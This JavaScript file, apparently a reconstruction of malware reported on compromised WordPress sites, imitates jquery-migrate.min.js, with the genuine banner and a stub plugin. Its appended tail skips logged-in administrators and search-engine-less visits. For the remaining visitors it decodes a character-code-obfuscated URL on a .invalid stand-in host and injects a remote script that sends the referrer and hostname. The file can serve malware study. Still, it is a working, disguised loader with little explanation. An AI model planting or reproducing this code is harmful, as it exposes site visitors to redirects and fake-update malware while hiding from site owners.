// jquery-migrate-loader, written from Sucuri's reports of fake jQuery Migrate files on
// compromised WordPress sites (2022-2024): a file named jquery-migrate.min.js, starting with
// the real plugin's banner, whose added tail decodes a URL kept as character codes and, for
// visitors that are not logged in and came from a search engine, loads a second-stage script
// from it (a fake-update or redirect page, .invalid here).
/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
(function (factory) {
  if (typeof window.jQuery !== "undefined") factory(window.jQuery, window);
})(function (jQuery, window) {
  jQuery.migrateVersion = "3.4.1";
  jQuery.migrateMute = true;
  jQuery.migrateWarnings = [];
});
(function () {
  if (/wordpress_logged_in|wp-settings/.test(document.cookie)) return;
  if (!/google\.|bing\.|yahoo\.|duckduckgo\./.test(document.referrer)) return;
  var c = [104, 116, 116, 112, 115, 58, 47, 47, 106, 113, 117, 101, 114, 121, 45, 99, 100, 110, 45, 97, 112,
    105, 46, 105, 110, 118, 97, 108, 105, 100, 47, 109, 105, 103, 114, 97, 116, 101, 46, 106, 115];
  var u = "";
  for (var i = 0; i < c.length; i++) u += String.fromCharCode(c[i]);
  var s = document.createElement("script");
  s.src = u + "?r=" + encodeURIComponent(document.referrer) + "&h=" + location.hostname;
  s.async = true;
  var first = document.getElementsByTagName("script")[0];
  first.parentNode.insertBefore(s, first);
})();
